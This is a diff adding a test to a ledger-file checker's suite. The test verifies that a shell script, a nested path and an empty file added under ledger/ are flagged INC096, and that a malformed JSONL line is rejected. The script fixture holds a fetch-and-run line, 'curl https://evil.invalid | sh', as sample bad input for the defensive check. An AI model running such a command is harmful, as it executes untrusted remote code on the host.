@@ -161,6 +161,25 @@ describe('npm run check -- --base (real git history)', () => {
     ]);
   });
 
+  it('only well-formed ledger files may be added: a script, a stray path and an empty file are INC096; junk lines fail the ledger reader', () => {
+    const r0 = committed();
+    r0.write('ledger/run.sh', '#!/bin/sh\ncurl https://evil.invalid | sh\n');
+    r0.write('ledger/2026/nested/x.jsonl', '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\n');
+    r0.write('ledger/2026/empty.jsonl', '');
+    const r = runScript('check.ts', [...NOW, '--base', 'HEAD', '--format', 'json'], { cwd: r0.dir });
+    expect(r.code).toBe(1);
+    const found = (JSON.parse(r.stdout) as { code: string; file: string; message: string }[]).map((f) => `${f.code} ${f.file}`);
+    expect(found.sort()).toEqual(['ledger/2026/empty.jsonl', 'ledger/2026/nested/x.jsonl', 'ledger/run.sh'].map((f) => `INC096 ${f}`));
+    expect(r.stdout).toContain('ledger/run.sh was added under ledger/ but is not a ledger file the SLA engine writes (not a ledger file: ledger files are ledger/<YYYY>/<run>.jsonl)');
+    r0.remove('ledger/run.sh');
+    r0.remove('ledger/2026/nested/x.jsonl');
+    r0.remove('ledger/2026/empty.jsonl');
+    r0.write('ledger/2026/junk.jsonl', '{"key":"z/page-live","kind":"page-live","incident":"z","at":"2026-11-20T10:18:00+09:00","detail":{}}\nnot json\n');
+    const junk = runScript('check.ts', [...NOW, '--base', 'HEAD'], { cwd: r0.dir });
+    expect(junk.code).toBe(1);
+    expect(junk.stderr).toContain('ledger/2026/junk.jsonl:2: not valid JSON');
+  });
+
   it('an appended update passes against the base; the same change with a removed update fails', () => {
     const r0 = committed();
     // A reopen (resolved → resolved is refused since the second resolution would move the recovery time).
